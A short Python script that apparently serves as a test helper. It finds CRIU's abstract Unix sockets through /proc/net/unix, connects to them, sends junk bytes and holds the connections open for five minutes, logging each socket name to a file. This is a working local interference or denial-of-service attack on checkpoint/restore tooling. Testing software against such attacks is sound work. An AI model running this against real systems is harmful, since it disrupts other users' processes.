#!/usr/bin/env python3
# flood.py FILE: does to whatever socket of criu's it sees what keeps criu from its work:
# connects to it and says nothing, and sends it messages. The names that it saw, to FILE.
import re, socket, sys, time

ours = re.compile(r"@\S*(crtools|criu)\S*")
seen, held = set(), []


def attack(name):
    address = "\0" + name[1:]
    for kind in socket.SOCK_SEQPACKET, socket.SOCK_STREAM, socket.SOCK_DGRAM:
        for _ in range(3):
            s = socket.socket(socket.AF_UNIX, kind)
            s.setblocking(False)
            try:
                s.connect(address)
                s.send(b"x" * 8)
                held.append(s)
            except OSError:
                s.close()


end = time.time() + 300  # whoever forgets it
with open(sys.argv[1], "w") as out:
    print("ready", file=out, flush=True)
    while time.time() < end:
        with open("/proc/net/unix") as names:
            found = {match.group() for match in ours.finditer(names.read())}
        for name in found:
            attack(name)
        for name in found - seen:
            print(name, file=out, flush=True)
        seen |= found
